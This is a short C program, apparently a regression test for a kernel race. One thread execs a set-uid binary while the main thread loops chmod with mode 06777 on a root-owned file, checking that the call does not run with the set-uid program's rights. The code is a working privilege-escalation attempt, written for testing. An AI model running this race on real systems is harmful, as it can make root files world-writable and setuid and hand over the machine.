// One thread makes a call that is decided for it, another becomes a set-uid program: the call must not be made with the rights
// of that program. Arguments: a file of root's, and a set-uid program.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <unistd.h>

static char **words;
static pthread_barrier_t begin;

static void *become(void *nothing) {
    pthread_barrier_wait(&begin);
    execl(words[2], words[2], "--version", NULL);
    return nothing;
}

int main(int argc, char **argv) {
    (void)argc;
    words = argv;
    pthread_t thread;
    pthread_barrier_init(&begin, NULL, 2);
    pthread_create(&thread, NULL, become, NULL);
    pthread_barrier_wait(&begin);
    for (;;)
        chmod(argv[1], 06777);
}
